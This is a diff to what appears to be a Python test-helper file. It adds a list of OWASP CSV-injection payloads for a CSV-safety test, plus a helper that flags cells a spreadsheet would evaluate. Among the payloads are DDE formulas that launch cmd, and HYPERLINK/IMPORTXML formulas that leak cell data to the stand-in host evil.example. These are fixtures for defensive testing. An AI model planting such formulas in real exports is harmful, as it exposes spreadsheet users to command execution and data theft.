@@ -281,3 +281,21 @@ def write_contacts_csv(path, rows, start=0):
         for i in range(start, start + rows):
             f.write(f"p{i}@example.com,First{i},Last{i},DE,Company {i % 250},\"vip,import\",{i % 2}\n")
     return str(path)
+
+
+#: Spreadsheet formula payloads (OWASP "CSV injection" and what the issue found):
+#: every CSV writer must neutralise each one (tests/test_csv_safety.py).
+OWASP_CSV_PAYLOADS = [
+    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")", "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1", "\r=1+1", "\n=1+1", "=2+5@example.com", "+491701234567x", "Ada\r=HYPERLINK(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+]
+
+
+def formula_cells(rows):
+    """The cells of parsed CSV ``rows`` that a spreadsheet would evaluate."""
+    import re
+
+    starts, e164 = ("=", "+", "-", "@", "\t", "\r", "\n"), re.compile(r"\+[1-9][0-9]{1,14}")
+    return [cell for row in rows for cell in row if cell[:1] in starts and not e164.fullmatch(cell)]
